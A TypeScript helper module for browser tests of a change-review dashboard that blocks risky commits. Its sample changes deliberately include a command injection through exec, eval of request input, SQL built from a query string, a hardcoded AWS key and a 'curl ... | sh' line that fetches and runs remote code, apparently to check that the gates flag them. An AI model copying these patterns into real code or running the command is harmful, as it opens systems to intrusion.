import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { ExecutionContext, TestFn } from 'ava';
import {
  type Browser,
  type BrowserContextOptions,
  chromium,
  type Page,
  type Request,
} from 'playwright-core';
import { hashOf } from '../auth/password-hash.ts';
import {
  change,
  type DaemonProcess,
  newFile,
  startDaemonProcess,
  type Teardown,
  temporaryDir,
} from '../daemon.ts';
import { AWS_KEY } from '../decision-calls.ts';
import { freePort } from '../free-port.ts';

/** The dashboard in a real browser: what its tests and proofs share. */

const PASSWORD = 'a long password of the admin';
const TOKEN = 'a'.repeat(32);
const OVERRIDE_TOKEN = 'b'.repeat(32);
export const REASON = 'The key is revoked, see ticket OPS-1';
const CHROMIUM = '/usr/bin/chromium';
/** Far above what a page takes, also on a busy machine. */
const WAIT_MS = 120_000;
const axePath = createRequire(import.meta.url).resolve('axe-core/axe.min.js');

/** A daemon with a local admin, and people with browsers. */
export interface House {
  daemon: DaemonProcess;
  origin: string;
  /** Starts the daemon again, on its data and port. */
  restart(): Promise<void>;
  /** A browser that has never been here. */
  visit(t: Teardown, options?: BrowserContextOptions): Promise<Visitor>;
  /** A call by the API token; throws unless it succeeds. */
  call<T>(path: string, body?: unknown, method?: string, token?: string): Promise<T>;
  /** Submits a change; answers its id. */
  submit(body: Record<string, unknown>): Promise<string>;
}

export interface Visitor {
  page: Page;
  /** Violations of the content security policy, errors of scripts. */
  problems: string[];
  /** Opens a view; logs in where it is asked to. */
  open(hash: string, ready: string): Promise<void>;
}

/** The settings that every house starts with, beside its own. */
export function houseSettings(port: number): Record<string, string> {
  return {
    SERVICE_AUTH_ENABLED: 'true',
    SERVICE_PORT: String(port),
    SERVICE_BASE_URL: `http://127.0.0.1:${port}`,
    CRA_API_TOKEN: TOKEN,
    CRA_OVERRIDE_TOKEN: OVERRIDE_TOKEN,
    SERVICE_ADMIN_PASSWORD_HASH: hashOf(PASSWORD),
  };
}

/** Opens a house; `started` runs elsewhere with the settings of a house. */
export async function openDashboard(
  t: Teardown,
  started?: Pick<DaemonProcess, 'port'>,
): Promise<House> {
  const port = started?.port ?? (await freePort());
  const dataDir = temporaryDir(t);
  const start = () => startDaemonProcess(t, dataDir, houseSettings(port));
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  t.teardown(() => browser.close());
  const origin = `http://127.0.0.1:${port}`;
  const house: House = {
    daemon: (started as DaemonProcess | undefined) ?? (await start()),
    origin,
    async restart() {
      house.daemon = await start();
    },
    visit: (own, options) => visit(own, browser, origin, options),
    call: (path, body, method, token) => call(origin, path, body, method, token),
    async submit(body) {
      return (await house.call<{ rfc_id: string }>('analyze', body)).rfc_id;
    },
  };
  return house;
}

/** One for all tests of a file. */
export function dashboardForAll(test: TestFn): () => House {
  const undo: (() => unknown)[] = [];
  let house: House | null = null;
  test.before(async () => {
    house = await openDashboard({ teardown: (step) => undo.push(step) });
  });
  test.after.always(async () => {
    for (const step of undo.reverse()) await step();
  });
  return () => {
    if (house === null) throw new Error('not opened');
    return house;
  };
}

async function visit(
  t: Teardown,
  browser: Browser,
  origin: string,
  options?: BrowserContextOptions,
): Promise<Visitor> {
  const context = await browser.newContext(options);
  t.teardown(() => context.close());
  const page = await context.newPage();
  page.setDefaultTimeout(WAIT_MS);
  const problems: string[] = [];
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('console', (message) => {
    // Answers that are errors are what some tests ask for; the page shows them.
    if (message.type() === 'error' && !message.text().startsWith('Failed to load resource')) {
      problems.push(message.text());
    }
  });
  return {
    page,
    problems,
    async open(hash, ready) {
      await page.goto(`${origin}/cra${hash}`);
      const login = page.locator('input[name=password]');
      const shown = page.locator(ready).first();
      await shown.or(login).first().waitFor();
      if (await login.isVisible()) await logIn(page);
      await shown.waitFor();
    },
  };
}

/** Logs in as the local admin, on the login page. */
export async function logIn(page: Page): Promise<void> {
  await page.fill('input[name=password]', PASSWORD);
  await page.click('button');
}

/** The same by keyboard alone. */
export async function typePassword({ keyboard }: Page): Promise<void> {
  await keyboard.type(PASSWORD);
  await keyboard.press('Enter');
}

async function call<T>(
  origin: string,
  path: string,
  body?: unknown,
  method = body === undefined ? 'GET' : 'POST',
  token = TOKEN,
): Promise<T> {
  const response = await fetch(`${origin}/api/cra/${path}`, {
    method,
    headers: { Authorization: `Bearer ${token}` },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  const answer = (await response.json()) as { ok: boolean; error: string; data: T };
  if (!answer.ok) throw new Error(`${path}: ${response.status} ${answer.error}`);
  return answer.data;
}

/** A change that is BLOCKED for a secret. */
export function blockedChange(over: Record<string, unknown> = {}): Record<string, unknown> {
  return change(newFile('deploy/env.sh', `export AWS_KEY=${AWS_KEY}\n`), over);
}

/** Changes as a queue has them: of several repositories, with what each gate finds. */
export async function submitSamples({ submit }: House): Promise<void> {
  const shell = "exec('ls -l ' + req.query.dir, done);\n";
  for (const [repo_name, commit_message, path, text] of [
    ['acme/shop', 'List a directory in the admin page', 'src/admin/list.js', shell],
    ['acme/payments', 'Retry a payment that timed out', 'deploy/env.sh', `KEY=${AWS_KEY}\n`],
    ['acme/web', 'Render templates of partners', 'src/render.js', 'eval(req.body.template);\n'],
    ['acme/infra', 'Install the agent', 'install.sh', 'curl -s https://a.example/i | sh\n'],
    ['data/loader', 'Find orders by name', 'find.js', 'db.query("select " + req.query.q);\n'],
    ['acme/shop', 'docs: how refunds work', 'docs/refunds.md', 'Refunds take two days.\n'],
  ] as const) {
    await submit(change(newFile(path, text), { repo_name, commit_message }));
  }
}

/** A BLOCKED change, open at the page of somebody who may decide. */
export async function openBlocked(
  house: House,
  { open }: Visitor,
  over: Record<string, unknown> = {},
): Promise<string> {
  const id = await house.submit(blockedChange(over));
  await open(`#approve-${id}`, '#reason');
  return id;
}

/** Decides by a token, as somebody else. */
export function overrideElsewhere(house: House, id: string): Promise<unknown> {
  const body = { actor: 'bob', reason: 'Bob was faster than the page' };
  return house.call(`rfc/${id}/override`, body, 'POST', OVERRIDE_TOKEN);
}

/** A change with an emergency override by a token, which another person has to review. */
export async function emergencyElsewhere(house: House): Promise<string> {
  const id = await house.submit(blockedChange());
  const body = { actor: 'bob', reason: 'The shop is down, incident 18', emergency: true };
  await house.call(`rfc/${id}/override`, body, 'POST', OVERRIDE_TOKEN);
  return id;
}

/** Objects to it by a token. */
export function objectElsewhere(house: House, id: string): Promise<unknown> {
  const body = { outcome: 'object', reason: 'Nobody could tell why it was needed' };
  return house.call(`rfc/${id}/review-emergency`, body, 'POST', OVERRIDE_TOKEN);
}

/** Adds a finding, and a comment on the first finding, and waits until the page shows them. */
export async function addRemarks(page: Page, text: string): Promise<void> {
  const finding = '[aria-label="Findings by people"]';
  const comment = '.finding >> nth=0';
  await page.click('text=Add a finding');
  await page.fill(`${finding} textarea`, text);
  await page.fill(`${finding} input >> nth=0`, text);
  await page.click(`${finding} button[type=submit]`);
  await page.waitForSelector(`${finding} h2`);
  await page.click(`${comment} >> text=Comment`);
  await page.fill(`${comment} >> textarea`, text);
  await page.click(`${comment} >> button[type=submit]`);
  await page.waitForSelector(`${comment} >> ul li`);
}

/** Decisions in the record. */
export async function decisionsOf(house: House, id: string): Promise<string[]> {
  const { override_history: history } = await house.call<{
    override_history: { action: string }[];
  }>(`rfc/${id}`);
  return history.map(({ action }) => action);
}

/** What breaks WCAG 2.2 AA on the page as it is now. */
export async function violations(page: Page): Promise<string[]> {
  // The policy of the page refuses scripts from elsewhere, so axe runs as the browser's own.
  const session = await page.context().newCDPSession(page);
  await session.send('Runtime.evaluate', { expression: readFileSync(axePath, 'utf8') });
  const { result } = await session.send('Runtime.evaluate', {
    expression:
      "axe.run({runOnly: ['wcag2a','wcag2aa','wcag21a','wcag21aa','wcag22aa']}).then((r) => r.violations.map((v) => v.id + ': ' + v.nodes[0].html))",
    awaitPromise: true,
    returnByValue: true,
  });
  await session.detach();
  return result.value as string[];
}

/** Every view, and what is there once it has loaded. */
export function views(rfcId: string): readonly (readonly [hash: string, ready: string])[] {
  return [
    ['#/queue', 'table.queue'],
    ['#/queue?repo=none', 'text=Nothing matches this search'],
    ['#/queue?q=is:open', 'text=/must be any/'],
    ['#/queue?status=EMERGENCIES', 'text=/No emergency override waits|Review due/'],
    [`#/rfc/${rfcId}`, '.code'],
    [`#/rfc/${rfcId}?tab=changes`, '.code'],
    [`#/rfc/${rfcId}?tab=timeline`, '.timeline'],
    [`#/rfc/${rfcId}?tab=compare`, '[aria-label=Compare] > :is(.empty, details.file, .quiet)'],
    ['#/rfc/RFC-0', 'text=No RFC with this id'],
    ['#/status', '.facts'],
    ['#/bulk', 'text=Name a repository or a day'],
    ['#/bulk?repo=acme/shop', 'table.rows'],
    ['#/overview', '.drawing'],
    ['#/audit', 'table.rows'],
    ['#/suppressions', 'main form'],
    ['#/tasks', 'main nav'],
    ['#/rules', 'table.rules'],
    ['#/rules/rule/vuln-01', '.examples'],
    ['#/rules/revisions', 'main details'],
    ['#/rules/edit', 'textarea'],
    ['#/coverage', 'text=No owners are configured'],
    ['#/usage', 'main nav'],
    ['#/help', 'kbd'],
    ['#/nothing', 'text=There is no such page'],
  ];
}

/** Makes requests fail that `isMeant`, after the service has answered them. */
export async function loseReplies(page: Page, isMeant: (request: Request) => boolean) {
  await page.route('**/api/cra/**', async (route) => {
    if (!isMeant(route.request())) return route.fallback();
    await route.fetch();
    return route.abort();
  });
}

/** Opens all that is folded, or what the selector names of it, and waits until it is there. */
export async function openAll(page: Page, folded = 'details'): Promise<void> {
  await page.evaluate(
    `document.querySelectorAll('${folded}').forEach((each) => { each.open = true; })`,
  );
  await page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done)))');
}

/** From now on the page does not hear what others do. */
export async function silencePulse(page: Page): Promise<void> {
  await page.route('**/api/cra/pulse*', (route) => route.fulfill({ status: 304 }));
}

/** Starts to note each shift of the layout; `shiftsOf` tells them. */
export async function watchShifts(page: Page): Promise<void> {
  await page.evaluate(`globalThis.shifts = [];
    const nameOf = ({ node, previousRect, currentRect }) =>
      [node?.outerHTML?.slice(0, 120) ?? node?.textContent, previousRect, currentRect];
    new PerformanceObserver((list) => {
      for (const { value, sources } of list.getEntries())
        shifts.push(JSON.stringify([value, sources.map(nameOf)]));
    }).observe({ type: 'layout-shift' });`);
}

/** What moved since, each with its share of the view and the elements that moved. */
export function shiftsOf(page: Page): Promise<string[]> {
  return page.evaluate('globalThis.shifts');
}

/** Logs figures of a page beside the load of the machine, as `t.log` lines. */
export function report(t: ExecutionContext, what: string, milliseconds: readonly number[]): void {
  const sorted = milliseconds.toSorted((one, other) => one - other);
  const load = readFileSync('/proc/loadavg', 'utf8').split(' ')[0];
  const list = sorted.map((each) => Math.round(each)).join(', ');
  t.log(`${what}: ${list} ms at load ${load}`);
}
